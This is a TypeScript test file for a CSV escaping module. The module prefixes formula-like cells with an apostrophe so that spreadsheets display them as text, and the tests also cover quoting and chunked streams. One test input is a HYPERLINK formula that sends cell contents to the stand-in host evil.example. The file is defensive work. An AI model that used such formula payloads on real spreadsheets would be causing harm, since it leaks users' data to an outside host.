import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { csvCell, csvRecord, inertCsv, inertText } from './csv';

const through = async (chunks: string[]) =>
  (await buffer(Readable.from(chunks.map((c) => Buffer.from(c))).pipe(inertCsv()))).toString('utf8');

describe('CSV cells a spreadsheet never runs', () => {
  it('prefixes what would be a formula, keeps figures and plain text', () => {
    for (const formula of [
      '=1+1',
      '+33 6',
      '-1+1',
      '@SUM(A1)',
      '\tcmd',
      '\r=x',
      '-',
      '=HYPERLINK("a";"b")',
    ]) {
      expect(inertText(formula)).toBe(`'${formula}`);
    }
    for (const plain of ['-1234,56', '-12', '-1 234.5', 'Cabinet', "'=déjà inerte", '411000', '']) {
      expect(inertText(plain)).toBe(plain);
    }
    expect(csvCell('=HYPERLINK("http://evil.example/?x="&A1;"clic")')).toBe(
      '"\'=HYPERLINK(""http://evil.example/?x=""&A1;""clic"")"',
    );
    expect(csvRecord(['a', null, 3, '@x'])).toBe("a;;3;'@x\r\n");
  });

  it('re-emits a stored CSV inert, whatever its chunks, and is idempotent', async () => {
    const stored = '\uFEFFa;b\r\n=1+1;"x;""y"""\r\n"@multi\r\nline";-5,00\r\nlast;+1';
    const expected = '\uFEFFa;b\r\n\'=1+1;"x;""y"""\r\n"\'@multi\r\nline";-5,00\r\nlast;\'+1\r\n';
    expect(await through([stored])).toBe(expected);
    // Cut anywhere, even inside a quote pair or a CRLF, the answer is the same.
    for (let cut = 1; cut < stored.length; cut++) {
      expect(await through([stored.slice(0, cut), stored.slice(cut)])).toBe(expected);
    }
    expect(await through([expected])).toBe(expected);
  });
});
